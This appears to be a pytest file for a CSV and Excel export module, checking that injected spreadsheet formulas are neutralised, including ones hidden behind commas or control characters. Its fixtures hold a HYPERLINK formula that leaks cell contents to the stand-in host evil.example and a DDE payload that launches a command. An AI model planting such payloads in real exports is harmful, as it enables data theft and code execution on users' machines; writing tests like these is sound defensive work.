"""Issue 20, injection edges of the downloads: the CSV header block cannot put a live cell in column B, and Excel
never stores a formula hidden behind a control character. Real csv and openpyxl readers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd

from evidence.export import neutralise, to_csv_bytes, to_xlsx_bytes

EVIL = 'x,=HYPERLINK("http://evil.example/?"&A1,"click")'
HEADER = [("snapshot", "2026-12-01"), ("filters", f"search={EVIL}"), ("method", "DL")]


def test_a_comma_in_a_header_value_never_makes_a_live_cell() -> None:
    data = to_csv_bytes(pd.DataFrame({"a": [1]}), [*HEADER, ("quoted", 'a,"=1+1",b'), ("ctl", "a,\x01@SUM(A1)")])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))[:5]
    assert all(r[0].startswith("# ") for r in rows)
    cells = [c for r in rows for c in r[1:]]
    live = [c for c in cells if c.lstrip(" ").lstrip("\x01").startswith(("=", "+", "-", "@"))]
    assert live == [] and any("HYPERLINK" in c for c in cells)  # the text is kept, inert
    assert rows[2] == ["# method: DL"]  # a line without commas is unchanged
    back = pd.read_csv(io.BytesIO(data), skiprows=5)
    assert back.to_dict("list") == {"a": [1]}


def test_xlsx_cleans_control_characters_before_neutralising() -> None:
    df = pd.DataFrame({"term": ["\x01=1+1", "\x02\x03@SUM(A1)", "=plain", "ok"]})
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(df, [("filters", "\x01=cmd|' /C calc'!A0")])))
    values = [c.value for row in wb.active.iter_rows() for c in row if isinstance(c.value, str)]
    formulas = [v for v in values if v.startswith(("=", "+", "-", "@"))]
    assert formulas == [], formulas
    assert "'=1+1" in values and "'@SUM(A1)" in values and "'=plain" in values and "ok" in values


def test_csv_neutralises_a_formula_behind_control_characters() -> None:
    assert neutralise("\x01=1+1") == "'\x01=1+1" and neutralise("-5") == "'-5" and neutralise("a=b") == "a=b"
    data = to_csv_bytes(pd.DataFrame({"t": ["\x01=1+1"]})).decode()
    assert "'\x01=1+1" in data
